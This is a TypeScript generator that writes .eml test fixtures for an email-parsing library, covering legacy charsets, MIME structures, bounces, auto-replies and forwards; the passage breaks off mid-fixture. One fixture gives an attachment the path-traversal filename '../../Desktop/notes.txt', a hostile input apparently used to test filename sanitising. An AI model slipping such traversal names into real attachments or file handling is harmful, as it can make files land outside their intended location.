/**
 * Writes the raw .eml fixtures for lib/mail/parse next to this file. Deterministic: running it
 * again rewrites identical bytes. The .eml files are committed; re-run after editing a fixture:
 *
 *   node --import tsx lib/mail/__fixtures__/generate.ts
 *
 * Messages are written as "latin1" strings (one char = one byte) so legacy-charset bodies can be
 * embedded byte-exactly; "\n" becomes CRLF unless a fixture asks for bare LF.
 * The 25 MB attachment case is NOT here: the tests build it in memory.
 */
import { writeFileSync } from "node:fs";
import path from "node:path";
import MailComposer from "nodemailer/lib/mail-composer";
import { CSV_ORDERS, GIF_1X1, PDF_INVOICE, PNG_1X1, WINMAIL_DAT, XLSX_LIKE } from "./payloads";

// ---------------------------------------------------------------------------------------------
// Encoding helpers

/** Bytes as a latin1 string, to splice into a message template. */
const l1 = (b: Buffer): string => b.toString("latin1");

/** windows-1252 0x80–0x9F (Node 20's TextDecoder wrongly yields C1 controls for these). */
const CP1252_HIGH = "€\u0081‚ƒ„…†‡ˆ‰Š‹Œ\u008dŽ\u008f\u0090‘’“”•–—˜™š›œ\u009džŸ";

function singleByteEncoder(charset: string): (text: string) => Buffer {
  const decoder = new TextDecoder(charset);
  const map = new Map<string, number>();
  for (let b = 0; b < 256; b++) {
    const ch = charset === "windows-1252" && b >= 0x80 && b <= 0x9f ? CP1252_HIGH[b - 0x80]! : decoder.decode(Uint8Array.of(b));
    if (ch !== "\uFFFD" && !map.has(ch)) map.set(ch, b);
  }
  return (text) =>
    Buffer.from(
      [...text].map((ch) => {
        const b = map.get(ch);
        if (b === undefined) throw new Error(`${charset} cannot encode ${JSON.stringify(ch)}`);
        return b;
      }),
    );
}

function iso2022JpEncoder(): (text: string) => Buffer {
  const decoder = new TextDecoder("euc-jp");
  const map = new Map<string, [number, number]>();
  for (let r = 0xa1; r <= 0xfe; r++) {
    for (let c = 0xa1; c <= 0xfe; c++) {
      const ch = decoder.decode(Uint8Array.of(r, c));
      if (ch.length === 1 && ch !== "\uFFFD" && !map.has(ch)) map.set(ch, [r - 0x80, c - 0x80]);
    }
  }
  return (text) => {
    const out: number[] = [];
    let jis = false;
    for (const ch of text) {
      const code = ch.codePointAt(0)!;
      if (code < 0x80) {
        if (jis) out.push(0x1b, 0x28, 0x42);
        jis = false;
        out.push(code);
        continue;
      }
      const pair = map.get(ch);
      if (!pair) throw new Error(`ISO-2022-JP cannot encode ${JSON.stringify(ch)}`);
      if (!jis) out.push(0x1b, 0x24, 0x42);
      jis = true;
      out.push(pair[0], pair[1]);
    }
    if (jis) out.push(0x1b, 0x28, 0x42);
    return Buffer.from(out);
  };
}

const cp1254 = singleByteEncoder("windows-1254");
const iso88599 = singleByteEncoder("iso-8859-9");
const cp1252 = singleByteEncoder("windows-1252");
const latin1 = singleByteEncoder("iso-8859-1");
const jis = iso2022JpEncoder();
const utf8 = (s: string): Buffer => Buffer.from(s, "utf8");

/** base64, 76-character lines. */
function b64(bytes: Buffer): string {
  return (bytes.toString("base64").match(/.{1,76}/g) ?? []).join("\n");
}

/** quoted-printable (lines split on LF in the input; soft breaks keep lines under 76). */
function qp(bytes: Buffer): string {
  const lines: string[] = [];
  for (const raw of l1(bytes).split("\n")) {
    let enc = "";
    for (let i = 0; i < raw.length; i++) {
      const c = raw.charCodeAt(i);
      const last = i === raw.length - 1;
      if ((c === 0x20 || c === 0x09) && last) enc += "=" + c.toString(16).toUpperCase().padStart(2, "0");
      else if ((c >= 33 && c <= 126 && c !== 61) || c === 0x20 || c === 0x09) enc += raw[i];
      else enc += "=" + c.toString(16).toUpperCase().padStart(2, "0");
    }
    let line = "";
    for (let i = 0; i < enc.length; ) {
      const token = enc[i] === "=" ? enc.slice(i, i + 3) : enc[i]!;
      if (line.length + token.length > 75) {
        lines.push(line + "=");
        line = "";
      }
      line += token;
      i += token.length;
    }
    lines.push(line);
  }
  return lines.join("\n");
}

/** One RFC 2047 encoded word. */
function ew(bytes: Buffer, charset: string, mode: "B" | "Q" = "B"): string {
  if (mode === "B") return `=?${charset}?B?${bytes.toString("base64")}?=`;
  let q = "";
  for (const b of bytes) {
    if (b === 0x20) q += "_";
    else if ((b >= 0x30 && b <= 0x39) || (b >= 0x41 && b <= 0x5a) || (b >= 0x61 && b <= 0x7a)) q += String.fromCharCode(b);
    else q += "=" + b.toString(16).toUpperCase().padStart(2, "0");
  }
  return `=?${charset}?Q?${q}?=`;
}

// ---------------------------------------------------------------------------------------------
// Fixtures

interface Fixture {
  name: string;
  /** Keep bare LF line endings. */
  lf?: boolean;
  build: () => string | Promise<string | Buffer>;
}

const GMAIL_RECEIVED = `Received: from mail-sor-f41.google.com (mail-sor-f41.google.com [209.85.220.41])
        by mx.acme.test (Postfix) with ESMTPS id 4TqK3L1zq8z9sVx
        for <support@acme.test>; Mon,  4 Mar 2024 09:15:02 +0300 (+03)`;

const fixtures: Fixture[] = [
  {
    name: "plain-new-ticket",
    build: () => `Return-Path: <mehmet.demir@example.com>
${GMAIL_RECEIVED}
From: Mehmet Demir <mehmet.demir@example.com>
To: Acme Support <support@acme.test>
Subject: Cannot log in to my account
Date: Mon, 4 Mar 2024 09:15:00 +0300
Message-ID: <CAF3k9x0QmZ+1@mail.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: 7bit

Hello,

Since this morning I cannot log in. The page says "invalid password"
although I reset it twice.

Thanks,
Mehmet
`,
  },
  {
    name: "iso-8859-9-quoted-printable",
    build: () => `From: ${ew(iso88599("Şule Yılmaz"), "ISO-8859-9", "Q")} <sule.yilmaz@example.com.tr>
To: destek@acme.test
Subject: ${ew(iso88599("Siparişim hâlâ gelmedi"), "ISO-8859-9", "Q")}
Date: Tue, 5 Mar 2024 10:02:13 +0300
Message-ID: <20240305070213.4411@example.com.tr>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-9
Content-Transfer-Encoding: quoted-printable
X-Mailer: Microsoft Outlook 16.0

${qp(
  iso88599(
    "Merhaba,\n\n12 Şubat'ta verdiğim 1001 numaralı sipariş hâlâ kargoya verilmedi. Ürünü iade mi etmeliyim, yoksa beklemeli miyim? Çok acil değil ama öğrenmek isterim.\n\nTeşekkürler,\nŞule\n",
  ),
)}`,
  },
  {
    name: "windows-1254-base64",
    build: () => `From: ${ew(cp1254("İbrahim Öztürk"), "windows-1254")} <ibrahim@ozturkgida.example>
To: Acme Destek <destek@acme.test>
Subject: ${ew(cp1254("Fatura düzeltme talebi – acil"), "windows-1254")}
Date: Wed, 6 Mar 2024 16:45:00 +0300
Message-ID: <000001da6f9c$8b1e2f40$a15a8dc0$@ozturkgida.example>
MIME-Version: 1.0
Content-Type: text/plain;
	charset="windows-1254"
Content-Transfer-Encoding: base64
X-Mailer: Microsoft Outlook 16.0
Content-Language: tr

${b64(
  cp1254(
    "Sayın yetkili,\n\nŞirket unvanımız faturada yanlış yazılmış: “Öztürk Gıda Ltd. Şti.” olmalı.\nFatura tutarı: 1.250 €\n\nSaygılarımla,\nİbrahim Öztürk\n",
  ),
)}
`,
  },
  {
    name: "windows-1254-8bit-raw-headers",
    build: () => `From: ${l1(cp1254("Gökçe Işık"))} <gokce.isik@example.com.tr>
To: destek@acme.test
Subject: ${l1(cp1254("Şifre sıfırlama e-postası gelmiyor"))}
Date: Thu, 7 Mar 2024 08:30:00 +0300
Message-ID: <raw8bit.0001@example.com.tr>
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1254
Content-Transfer-Encoding: 8bit

${l1(cp1254("İyi günler,\n\nŞifremi sıfırlamak istiyorum fakat e-posta hiç gelmiyor. Spam klasörünü de kontrol ettim.\n\nGökçe\n"))}`,
  },
  {
    name: "iso-2022-jp",
    build: () => `From: ${ew(jis("田中 太郎"), "ISO-2022-JP")} <tanaka.taro@example.jp>
To: support@acme.test
Subject: ${ew(jis("ログインできません"), "ISO-2022-JP")}
Date: Fri, 8 Mar 2024 11:20:00 +0900
Message-ID: <20240308112000.A1B2C3@example.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit

${l1(jis("お世話になっております。\nパスワードを再設定しましたが、ログインできません。\nよろしくお願いいたします。\n\n田中\n"))}`,
  },
  {
    name: "iso-2022-jp-missing-charset",
    build: () => `From: ${ew(jis("佐藤 花子"), "ISO-2022-JP")} <sato.hanako@example.jp>
To: support@acme.test
Subject: ${ew(jis("請求書について"), "ISO-2022-JP")}
Date: Fri, 8 Mar 2024 13:05:00 +0900
Message-ID: <20240308130500.D4E5F6@example.jp>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_Part_12345_67890.1709870700000"

------=_Part_12345_67890.1709870700000
Content-Type: text/plain
Content-Transfer-Encoding: 7bit

${l1(jis("請求書の金額が間違っているようです。\n添付のPDFをご確認ください。\n\n佐藤\n"))}
------=_Part_12345_67890.1709870700000
Content-Type: application/pdf; name="invoice.pdf"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="invoice.pdf"

${b64(PDF_INVOICE)}
------=_Part_12345_67890.1709870700000--
`,
  },
  {
    name: "iso-2022-jp-raw-headers",
    build: () => `From: suzuki@example.jp
To: support@acme.test
Subject: ${l1(jis("至急：注文の確認"))}
Date: Sat, 9 Mar 2024 09:00:00 +0900
Message-ID: <jis-raw-0001@example.jp>

${l1(jis("注文番号 2024-0042 の状況を教えてください。\n鈴木\n"))}`,
  },
  {
    name: "quoted-printable-utf8",
    build: () => `From: =?UTF-8?Q?J=C3=BCrgen_M=C3=BCller?= <juergen.mueller@example.de>
To: support@acme.test
Subject: =?UTF-8?Q?=C3=9Cberweisung_f=C3=BCr_Rechnung_2024-0042?=
Date: Mon, 11 Mar 2024 14:00:00 +0100
Message-ID: <qp-utf8-1@example.de>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

${qp(
  utf8(
    "Guten Tag,\n\nich habe die Überweisung für Rechnung 2024-0042 am Freitag ausgeführt, aber im Kundenkonto steht sie immer noch als „offen“. Bitte prüfen Sie das – danke!\n\nFormel aus der Tabelle: summe = netto + mwst \n\nMit freundlichen Grüßen\nJürgen Müller\n",
  ),
)}`,
  },
  {
    name: "base64-utf8",
    build: () => `From: Priya Raman <priya.raman@example.in>
To: support@acme.test
Subject: =?UTF-8?B?QXBwIGNyYXNoZXMgb24gZXhwb3J0IPCfmKM=?=
Date: Mon, 11 Mar 2024 18:30:00 +0530
Message-ID: <b64utf8.42@example.in>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

${b64(utf8("Hi team 👋\n\nThe app crashes every time I tap “Export → CSV”. I'm on version 4.2.1 (Android 14).\n\nPriya\n"))}
`,
  },
  {
    name: "rfc2047-names",
    build: () => `From: "=?UTF-8?B?w4dpxJ9kZW0gw5Z6?=" <cigdem.oz@example.com.tr>
To: =?UTF-8?Q?Jos=C3=A9_Garc=C3=ADa?= <jose.garcia@example.es>,
 =?ISO-8859-1?Q?Fran=E7ois_M=FCller?= <francois@example.fr>, support@acme.test
Cc: ${ew(utf8("山田"), "UTF-8")} ${ew(utf8("花子"), "UTF-8")} <hanako.yamada@example.jp>
Subject: =?UTF-8?Q?Caf=C3=A9?= order ${ew(utf8("–"), "UTF-8", "Q")} urgent
Date: Tue, 12 Mar 2024 09:00:00 +0000
Message-ID: <rfc2047-names@example.com.tr>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Please see the order for the cafe.
`,
  },
  {
    name: "multipart-alternative",
    build: () => `From: Emma Wilson <emma.wilson@example.co.uk>
To: support@acme.test
Subject: Question about the Pro plan
Date: Tue, 12 Mar 2024 12:00:00 +0000
Message-ID: <CAKx9=alt-0001@mail.gmail.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"

Hi,

Does the *Pro plan* include phone support? See
https://acme.test/pricing

Emma

--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

${qp(
  utf8(
    '<div dir="ltr"><div>Hi,</div><div><br></div><div>Does the <b>Pro plan</b> include phone support? See <a href="https://acme.test/pricing">the pricing page</a>.</div><div><br></div><div>Emma</div></div>\n',
  ),
)}
--000000000000a1b2c3d4e5f60718--
`,
  },
  {
    name: "html-only",
    build: () => `From: "Shop Owner" <owner@tiny-shop.example>
To: support@acme.test
Subject: Table of failed orders
Date: Wed, 13 Mar 2024 07:45:00 -0500
Message-ID: <html-only-77@tiny-shop.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Report</title>
<style>td { padding: 4px } .x { color: red }</style></head>
<body>
<p>Hello&nbsp;support,</p>
<p>These orders failed &amp; were charged twice:</p>
<table border="1"><tr><th>Order</th><th>Amount</th></tr>
<tr><td>A-1001</td><td>$25.00</td></tr>
<tr><td>A-1002</td><td>$13.50</td></tr></table>
<ul><li>Please refund</li><li>Please confirm &lt;by email&gt;</li></ul>
<p>Regards,<br>Tiny Shop</p>
</body></html>
`,
  },
  {
    name: "multipart-related-inline-image",
    build: async () =>
      new MailComposer({
        from: { name: "Lucas Martin", address: "lucas.martin@example.fr" },
        to: "support@acme.test",
        subject: "Screenshot of the error",
        date: new Date("2024-03-13T10:00:00Z"),
        messageId: "<related-inline-1@example.fr>",
        baseBoundary: "fixture-related",
        text: "Hello,\n\nHere is the error I get (screenshot below).\n\nLucas",
        html: '<p>Hello,</p><p>Here is the error I get:</p><p><img src="cid:screenshot@example.fr" alt="screenshot"></p><p>Lucas<br><img src="cid:signature-logo@example.fr" alt="logo"></p>',
        attachments: [
          { filename: "screenshot.png", content: PNG_1X1, contentType: "image/png", cid: "screenshot@example.fr" },
          { filename: "logo.gif", content: GIF_1X1, contentType: "image/gif", cid: "signature-logo@example.fr" },
          { filename: "unused.png", content: PNG_1X1, contentType: "image/png", cid: "not-referenced@example.fr" },
          { filename: "error-log.pdf", content: PDF_INVOICE, contentType: "application/pdf" },
        ],
      })
        .compile()
        .build(),
  },
  {
    name: "winmail-dat",
    build: () => `From: Robert Chen <robert.chen@corp.example.com>
To: support@acme.test
Subject: Updated contract
Date: Thu, 14 Mar 2024 15:10:00 -0700
Message-ID: <BY5PR11MB4001A1B2C3D4E5F6A7B8C9D0E1F2@BY5PR11MB4001.namprd11.prod.outlook.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="_000_BY5PR11MB4001A1B2C3D4E5F6_"
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator: <BY5PR11MB4001A1B2C3D4E5F6A7B8C9D0E1F2@BY5PR11MB4001.namprd11.prod.outlook.com>
Content-Language: en-US

--_000_BY5PR11MB4001A1B2C3D4E5F6_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Hi, the updated contract is attached.

Robert

--_000_BY5PR11MB4001A1B2C3D4E5F6_
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="winmail.dat"

${b64(WINMAIL_DAT)}

--_000_BY5PR11MB4001A1B2C3D4E5F6_--
`,
  },
  {
    name: "attachment-filenames",
    build: () => `From: Ali Veli <ali.veli@example.com.tr>
To: destek@acme.test
Subject: Belgeler ektedir
Date: Fri, 15 Mar 2024 09:00:00 +0300
Message-ID: <attachments-1@example.com.tr>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1_attachments"

--b1_attachments
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

${l1(utf8("Fatura, sipariş listesi ve rapor ekte.\n"))}
--b1_attachments
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''fatura_%C5%9Fubat_2024.pdf
Content-Transfer-Encoding: base64

${b64(PDF_INVOICE)}
--b1_attachments
Content-Type: text/csv; name="${ew(utf8("siparişler.csv"), "UTF-8")}"
Content-Disposition: attachment; filename="${ew(utf8("siparişler.csv"), "UTF-8")}"
Content-Transfer-Encoding: base64

${b64(CSV_ORDERS)}
--b1_attachments
Content-Type: application/octet-stream; name="rapor.xlsx"
Content-Disposition: attachment; filename="rapor.xlsx"
Content-Transfer-Encoding: base64

${b64(XLSX_LIKE)}
--b1_attachments
Content-Type: text/plain; charset=us-ascii
Content-Disposition: attachment; filename="../../Desktop/notes.txt"

remember to call back
--b1_attachments
Content-Type: application/pdf
Content-Disposition: attachment
Content-Transfer-Encoding: base64

${b64(PDF_INVOICE)}
--b1_attachments--
`,
  },
  {
    name: "missing-message-id",
    build: () => `From: "Contact form" <noreply@web.example.org>
Reply-To: Grace Hopper <grace@example.org>
To: support@acme.test
Subject: Website contact: pricing question
Date: Fri, 15 Mar 2024 12:00:00 +0000
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Name: Grace Hopper
Message: Do you offer discounts for schools?
`,
  },
  {
    name: "broken-folding",
    build: () => `From: John Smith <john.smith@example.org>
To: support@acme.test
Subject: Problem with invoice
 number 2024-0042 and
the delivery address
Date: Tue, 5 Mar 2024 11:00:00 +0000
X-Broken-Header value without a colon
Message-ID: <broken-folding-1@example.org>
Content-Type: text/plain; charset=utf-8

The invoice number and the delivery address are both wrong.
John
`,
  },
  {
    name: "missing-from",
    build: () => `Reply-To: "Web Shop Orders" <orders@webshop.example.net>
To: support@acme.test
Subject: Order notification without sender
Date: Sat, 16 Mar 2024 08:00:00 +0000
Message-ID: <missing-from-1@webshop.example.net>
Content-Type: text/plain; charset=utf-8

An order was placed but the shop did not set a From header.
`,
  },
  {
    name: "from-without-address",
    build: () => `From: undisclosed sender
Sender: Mailing Robot <robot@legacy.example.net>
To: support@acme.test
Subject: Legacy system alert
Date: Sat, 16 Mar 2024 08:05:00 +0000
Message-ID: <from-no-address-1@legacy.example.net>

The legacy system could not sync customers.
`,
  },
  {
    name: "garbage-date",
    build: () => `From: Kim Lee <kim.lee@example.kr>
To: support@acme.test
Subject: Date header is garbage
Date: 32 Smarch 20xx 25:61:99 +9999
Message-ID: <garbage-date-1@example.kr>
Content-Type: text/plain; charset=utf-8

My mail client has a broken clock.
`,
  },
  {
    name: "dsn-postfix",
    build: () => `Return-Path: <>
From: MAILER-DAEMON@mx.example.net (Mail Delivery System)
To: support@acme.test
Subject: Undelivered Mail Returned to Sender
Date: Mon, 18 Mar 2024 10:00:05 +0000 (UTC)
Message-Id: <20240318100005.9F3A2C0042@mx.example.net>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="9F3A2C0042.1710756005/mx.example.net"
Content-Transfer-Encoding: 8bit

This is a MIME-encapsulated message.

--9F3A2C0042.1710756005/mx.example.net
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.example.net.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

<bob.gone@example.net>: host mail.example.net[198.51.100.25] said: 550 5.1.1
    <bob.gone@example.net>: Recipient address rejected: User unknown in virtual
    mailbox table (in reply to RCPT TO command)

--9F3A2C0042.1710756005/mx.example.net
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.net
X-Postfix-Queue-ID: 9F3A2C0042
X-Postfix-Sender: rfc822; support@acme.test
Arrival-Date: Mon, 18 Mar 2024 10:00:03 +0000 (UTC)

Final-Recipient: rfc822; bob.gone@example.net
Original-Recipient: rfc822;bob.gone@example.net
Action: failed
Status: 5.1.1
Remote-MTA: dns; mail.example.net
Diagnostic-Code: smtp; 550 5.1.1 <bob.gone@example.net>: Recipient address
    rejected: User unknown in virtual mailbox table

--9F3A2C0042.1710756005/mx.example.net
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

Return-Path: <support@acme.test>
From: Acme Support <support@acme.test>
To: bob.gone@example.net
Subject: [#1500] Your refund
Date: Mon, 18 Mar 2024 10:00:00 +0000
Message-ID: <ticket-1500-msg-3@acme.test>

--9F3A2C0042.1710756005/mx.example.net--
`,
  },
  {
    name: "dsn-gmail-rfc822",
    build: () => `From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>
To: support@acme.test
Subject: Delivery Status Notification (Failure)
Date: Tue, 19 Mar 2024 06:00:00 -0700 (PDT)
Message-ID: <65f98ab0.050a0220.1c2f.0001.GMR@mx.google.com>
MIME-Version: 1.0
Content-Type: multipart/report; boundary="00000000000076f9a50613f0a5b1"; report-type=delivery-status

--00000000000076f9a50613f0a5b1
Content-Type: multipart/related; boundary="00000000000076fbb00613f0a5b5"

--00000000000076fbb00613f0a5b5
Content-Type: multipart/alternative; boundary="00000000000076fbbb0613f0a5b6"

--00000000000076fbbb0613f0a5b6
Content-Type: text/plain; charset="UTF-8"

** Address not found **

Your message wasn't delivered to no.such.user@gmail.com because the address couldn't be found, or is unable to receive mail.

--00000000000076fbbb0613f0a5b6
Content-Type: text/html; charset="UTF-8"

<html><body><h2>Address not found</h2><p>Your message wasn't delivered to <b>no.such.user@gmail.com</b> because the address couldn't be found.</p></body></html>

--00000000000076fbbb0613f0a5b6--
--00000000000076fbb00613f0a5b5--
--00000000000076f9a50613f0a5b1
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.com
Received-From-MTA: dns; mx.acme.test
Arrival-Date: Tue, 19 Mar 2024 06:00:00 -0700 (PDT)

Final-Recipient: rfc822; no.such.user@gmail.com
Action: failed
Status: 5.1.1
Remote-MTA: dns; gmail-smtp-in.l.google.com. (142.250.27.26, the server for the domain gmail.com.)
Diagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach does not exist.
Last-Attempt-Date: Tue, 19 Mar 2024 06:00:00 -0700 (PDT)

--00000000000076f9a50613f0a5b1
Content-Type: message/rfc822

From: Acme Support <support@acme.test>
To: no.such.user@gmail.com
Subject: [#1600] Welcome to Acme
Date: Tue, 19 Mar 2024 13:00:00 +0000
Message-ID: <ticket-1600-msg-1@acme.test>
Content-Type: text/plain; charset=utf-8

Welcome! Your ticket number is 1600.

--00000000000076f9a50613f0a5b1--
`,
  },
  {
    name: "bounce-exim-plain",
    build: () => `Return-path: <>
From: Mail Delivery System <Mailer-Daemon@mail.example.org>
To: support@acme.test
Subject: Mail delivery failed: returning message to sender
Message-Id: <E1rmXyZ-0001aB-Cd@mail.example.org>
Date: Wed, 20 Mar 2024 12:00:00 +0000
X-Failed-Recipients: nobody@example.org
Auto-Submitted: auto-replied

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  nobody@example.org
    host mx.example.org [198.51.100.7]
    SMTP error from remote mail server after RCPT TO:<nobody@example.org>:
    550 5.1.1 <nobody@example.org>: Recipient address rejected: User unknown

------ This is a copy of the message, including all the headers. ------

Return-path: <support@acme.test>
From: Acme Support <support@acme.test>
To: nobody@example.org
Subject: [#1700] Password reset
Message-ID: <ticket-1700-msg-2@acme.test>
Date: Wed, 20 Mar 2024 11:59:58 +0000

Here is your password reset link.
`,
  },
  {
    name: "dsn-delayed",
    build: () => `Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@relay.example.com>
To: support@acme.test
Subject: Delayed Mail (still being retried)
Date: Thu, 21 Mar 2024 10:00:00 +0000
Message-Id: <20240321100000.AAA111@relay.example.com>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="delay-boundary"

--delay-boundary
Content-Type: text/plain; charset=us-ascii

This is the mail system at host relay.example.com.

####################################################################
# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #
####################################################################

--delay-boundary
Content-Type: message/delivery-status

Reporting-MTA: dns; relay.example.com

Final-Recipient: rfc822; slow@example.com
Action: delayed
Status: 4.4.7
Diagnostic-Code: X-Postfix; connect to mx.example.com[203.0.113.5]:25: Connection timed out
Will-Retry-Until: Mon, 25 Mar 2024 10:00:00 +0000

--delay-boundary
Content-Type: text/rfc822-headers

From: Acme Support <support@acme.test>
To: slow@example.com
Subject: [#1800] Shipping update
Message-ID: <ticket-1800-msg-1@acme.test>

--delay-boundary--
`,
  },
  {
    name: "out-of-office-outlook",
    build: () => `From: Daniel Novak <daniel.novak@corp.example.com>
To: Acme Support <support@acme.test>
Subject: Automatic reply: [#1234] Your order has shipped
Date: Fri, 22 Mar 2024 09:00:00 +0000
Message-ID: <8f1c3a1e2b7d4c0a9e5f6a7b8c9d0e1f@corp.example.com>
In-Reply-To: <ticket-1234-msg-4@acme.test>
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: daniel.novak@corp.example.com
Content-Language: en-US
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"

I am out of the office until 1 April with limited access to email.
For urgent matters please contact sales@corp.example.com.
`,
  },
  {
    name: "out-of-office-subject-only",
    build: () => `From: =?utf-8?Q?Zeynep_=C3=87elik?= <zeynep.celik@example.com.tr>
To: destek@acme.test
Subject: =?utf-8?Q?Otomatik_yan=C4=B1t:_Sipari=C5=9Finiz_kargoda?=
Date: Fri, 22 Mar 2024 10:00:00 +0300
Message-ID: <ooo-tr-1@example.com.tr>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

${l1(utf8("1 Nisan'a kadar izindeyim. Acil durumlar için lütfen ofisi arayın.\n"))}`,
  },
  {
    name: "mailing-list",
    build: () => `From: Victor Hugo <victor@example.org>
To: users@lists.example.org
Subject: [users] Anyone else seeing timeouts?
Date: Sat, 23 Mar 2024 17:00:00 +0100
Message-ID: <list-msg-4242@example.org>
List-Id: Example users list <users.lists.example.org>
List-Unsubscribe: <https://lists.example.org/unsubscribe/users>, <mailto:users-leave@lists.example.org>
List-Post: <mailto:users@lists.example.org>
Precedence: list
Sender: "users" <users-bounces@lists.example.org>
Errors-To: users-bounces@lists.example.org
Content-Type: text/plain; charset="us-ascii"

Since the last update the API times out for me. Anyone else?
`,
  },
  {
    name: "newsletter-bulk-html",
    build: () => `From: Acme Partner News <news@partner.example.net>
To: support@acme.test
Subject: March product updates
Date: Sun, 24 Mar 2024 06:00:00 +0000
Message-ID: <newsletter-2024-03@partner.example.net>
Precedence: bulk
List-Unsubscribe: <https://partner.example.net/u/abc123>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>body{font-family:Arial} .btn{background:url(https://partner.example.net/bg.png)}</style></head>
<body><h1>What's new in March</h1><p style="color:#333;background-image:url(https://t.partner.example.net/bg.gif)">Three new features.</p>
<p><a href="https://partner.example.net/blog?utm_source=nl">Read more</a></p>
<img src="https://t.partner.example.net/open.gif?u=123" width="1" height="1" alt="">
</body></html>
`,
  },
  {
    name: "forward-gmail-by-agent",
    build: () => `From: =?UTF-8?B?QXnFn2UgS2F5YQ==?= <ayse.kaya@acme.test>
To: support@acme.test
Subject: =?UTF-8?Q?Fwd:_Kargo_takip_numaras=C4=B1_yok?=
Date: Mon, 25 Mar 2024 15:30:00 +0300
Message-ID: <CAGmail-fwd-1@mail.gmail.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="000000000000fwd0gmail0001"

--000000000000fwd0gmail0001
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

${qp(
  utf8(
    "Bu müşteriye yardımcı olabilir misiniz?\n\n---------- Forwarded message ---------\nFrom: Can Aydın <can.aydin@example.com.tr>\nDate: Mon, Mar 25, 2024 at 3:22 PM\nSubject: Kargo takip numarası yok\nTo: <ayse.kaya@acme.test>\n\n\nMerhaba, siparişimin takip numarası gelmedi.\n\nCan\n",
  ),
)}
--000000000000fwd0gmail0001
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

${qp(
  utf8(
    '<div dir="ltr">Bu müşteriye yardımcı olabilir misiniz?<br><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">---------- Forwarded message ---------<br>From: <strong class="gmail_sendername" dir="auto">Can Aydın</strong> <span dir="auto">&lt;<a href="mailto:can.aydin@example.com.tr">can.aydin@example.com.tr</a>&gt;</span><br>Date: Mon, Mar 25, 2024 at 3:22 PM<br>Subject: Kargo takip numarası yok<br>To: &lt;<a href="mailto:ayse.kaya@acme.test">ayse.kaya@acme.test</a>&gt;<br></div><br><br><div dir="ltr">Merhaba, siparişimin takip numarası gelmedi.<div><br></div><div>Can</div></div></div></div>\n',
  ),
)}
--000000000000fwd0gmail0001--
`,
  },
  {
    name: "forward-outlook-by-agent",
    build: () => `From: Tom Baker <tom.baker@acme.test>
To: "support@acme.test" <support@acme.test>
Subject: FW: Refund request #5521
Date: Tue, 26 Mar 2024 10:20:00 +0000
Message-ID: <AM0PR01MB5521FW@AM0PR01MB5521.eurprd01.prod.outlook.com>
Thread-Topic: Refund request #5521
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="_000_AM0PR01MB5521FW_"

--_000_AM0PR01MB5521FW_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Please handle this one.

Tom

________________________________
From: Laura Jensen <laura.jensen@example.dk>
Sent: Tuesday, March 26, 2024 10:12 AM
To: Tom Baker <tom.baker@acme.test>
Subject: Refund request #5521

Hi Tom,
I would like a refund for order 5521, the box arrived damaged.
Laura

--_000_AM0PR01MB5521FW_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

${qp(
  utf8(
